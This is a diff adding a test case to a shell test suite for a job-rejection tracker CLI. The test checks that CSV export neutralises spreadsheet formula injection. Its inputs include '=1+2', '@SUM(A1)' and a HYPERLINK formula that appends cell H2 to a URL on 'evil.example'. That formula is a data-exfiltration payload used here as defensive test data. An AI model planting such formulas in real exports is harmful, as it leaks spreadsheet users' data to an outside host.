@@ -119,6 +119,18 @@ expect_true '[ "$(stat -c %a "$TMP/csv")" = 700 ] && [ "$(stat -c %a "$TMP/csv/a
 expect_true 'grep -q "\"Needed more examples, and \"\"structure\"\"." "$TMP/csv/rejections.csv"'
 run "$REBOUND" export --format csv --what rejections --out "$TMP/rejections.csv"
 expect_true '[ "$(compare csv "$TMP/rejections.csv")" = ok ]'
+# CSV injection: a text cell a spreadsheet would run as a formula gets a leading quote (OWASP's rule);
+# JSON keeps the text as it is.
+run "$REBOUND" reject add --company "=1+2" --role '@SUM(A1)' --date 2026-11-02 --themes structure \
+	--feedback '=HYPERLINK("http://evil.example/"&H2,"details")'
+expect_status 0
+run "$REBOUND" export --format csv --what rejections
+expect_out_has "2,\"'=1+2\",\"'@SUM(A1)\",2026-11-02,"
+expect_out_has "\"'=HYPERLINK(\"\"http://evil.example/\"\"&H2,\"\"details\"\")\""
+run "$REBOUND" export --what rejections
+expect_out_has '"company": "=1+2"'
+run "$REBOUND" reject rm 2 --yes
+expect_status 0
 
 # The questions as an Anki deck: Anki's headers, one note per loaded question with a stable GUID.
 run "$REBOUND" export --anki "$TMP/deck.csv"
